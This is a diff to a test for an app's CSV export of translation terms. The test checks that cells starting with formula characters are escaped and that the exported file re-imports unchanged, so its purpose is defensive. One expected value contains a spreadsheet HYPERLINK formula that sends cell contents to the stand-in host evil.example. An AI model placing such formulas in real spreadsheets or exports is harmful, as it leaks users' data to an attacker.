@@ -23,7 +23,8 @@ beforeAll(async () => {
   for (const term of TERMS) await t.db.translateEntry.create({ data: { id: nextId(), ...term } });
 });
 
-const rowsOf = async () => (await t.db.translateEntry.findMany({ orderBy: { chinese: 'asc' }, select: { chinese: true, english: true, labels: true, remark: true } }));
+const rowsOf = async () =>
+  await t.db.translateEntry.findMany({ orderBy: { chinese: 'asc' }, select: { chinese: true, english: true, labels: true, remark: true } });
 
 describe('CSV export of the term base', () => {
   it('neutralises every formula-looking cell, and the file imports back to the original texts', async () => {
@@ -33,13 +34,16 @@ describe('CSV export of the term base', () => {
     const cells: string[][] = parse(res.text, { bom: true });
     for (const cell of cells.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
     const byChinese = new Map(cells.slice(1).map((c) => [c[0], c]));
-    expect(byChinese.get('公式一')!.slice(1, 5)).toEqual(["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", '', "'@SUM(1)", "'-1+1"]);
+    expect(byChinese.get('公式一')!.slice(1, 5)).toEqual(['\'=HYPERLINK("http://evil.example/?d="&A1,"click")', '', "'@SUM(1)", "'-1+1"]);
     expect(byChinese.get('公式二')!.slice(1, 5)).toEqual(["'+1", '', "''=already quoted", "'\tcmd"]);
     expect(byChinese.get('普通')!.slice(1, 5)).toEqual(["it's plain", '', "''text", 'a=b']);
 
     // Round trip: the entries removed, the exported file imported.
     await t.db.translateEntry.updateMany({ data: { isDeleted: 1 } });
-    const commit = await request(t.server).post('/api/translate/import/commit').set(auth()).attach('file', Buffer.from(res.text), 'terms.csv');
+    const commit = await request(t.server)
+      .post('/api/translate/import/commit')
+      .set(auth())
+      .attach('file', Buffer.from(res.text), 'terms.csv');
     expect(commit.body.data, JSON.stringify(commit.body)).toMatchObject({ inserted: 3, errorCount: 0 });
     expect(await rowsOf()).toEqual(before);
   });
